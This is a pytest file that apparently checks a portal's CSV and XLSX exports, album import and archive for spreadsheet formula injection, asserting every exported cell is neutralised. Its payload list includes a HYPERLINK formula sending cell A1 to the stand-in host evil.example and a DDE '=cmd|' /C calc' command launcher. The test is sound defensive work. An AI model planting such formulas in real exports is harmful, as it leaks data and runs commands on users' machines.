"""Formulas in tables: no spreadsheet may calculate what an editor or a source wrote."""

import csv
import io
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook

from support import Content, portal_without_search, run, tree

FORMULAS = (
    *('=HYPERLINK("https://evil.example/?x="&A1;"x")', "=1+2", "=cmd|' /C calc'!A0", "+1+2"),
    *("--X(1)", '-"', "-@", "-1+2", "@SUM(1;2)", "\t=1+2", "＝1+2", "＋1", "－1", "＠SUM(1)"),
    *("|calc", "%0A=1", "'=1+2", "−1+2"),
)


def _quoted(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_table_holds_a_formula(content: Content, tmp_path: Path, formula: str) -> None:
    """In every text column of the three registers, of slices, albums, and the ledger."""
    text = _quoted(f"{formula} x")
    portal_without_search(tmp_path)
    content.write(
        "honorees/h1.md",
        f"---\nname: {text}\naliases: [{_quoted(formula + ' y')}]\nkind: person\n---\n",
    )
    content.article(
        "x",
        title=text,
        honours=(
            f"\n- {{id: cmau2222, honoree: h1, kind: person, role: {text}, award: Giấy khen,"
            f" authority: {text}, presented_by: {text}, citation: {text}, place: {text}}}"
        ),
        tallies=(
            f"\n- {{awards: [Giấy khen], persons: 1, note: {text},"
            f" scope: {{region: {text}, authority: {text}}}}}"
        ),
    )
    content.write(
        "albums/anh/index.md",
        f"---\ntitle: A\nphotos:\n- {{id: mot, caption: {text}, alt: {text}, credit: {text},"
        f" people: [{text}], status: caption-only}}\n---\n",
    )
    run("build", folder=tmp_path)
    run("archive", "--to", tmp_path / "tui", "--content", content.folder)
    run("album", "export", "anh", tmp_path / "a.csv", "--content", content.folder)
    run("album", "export", "anh", tmp_path / "a.xlsx", "--content", content.folder)
    tables = {
        path: data
        for folder in ("site", "tui")
        for path, data in tree(tmp_path / folder).items()
        if path.endswith(".csv")
    }
    tables["a.csv"] = (tmp_path / "a.csv").read_bytes()
    assert len(tables) > 6
    found = 0
    for path, data in tables.items():
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
            for cell in row:
                assert not cell.startswith(tuple("=+-@\t\r|%＝＋－＠−")), path
                found += formula.strip() in cell
    assert found > 15
    for cells in load_workbook(tmp_path / "a.xlsx").worksheets[0].iter_rows():
        assert {cell.data_type for cell in cells} <= {"s", "n"}
    run("album", "import", "anh", tmp_path / "a.csv", "--content", content.folder)
    assert text in (content.folder / "albums/anh/index.md").read_text(encoding="utf-8")
    exact = json.loads((tmp_path / "site/du-lieu/bang-vang.json").read_text(encoding="utf-8"))
    (row,) = (each for each in exact if each["id"] == "cmau2222")
    assert row["role"] == f"{formula} x".strip()
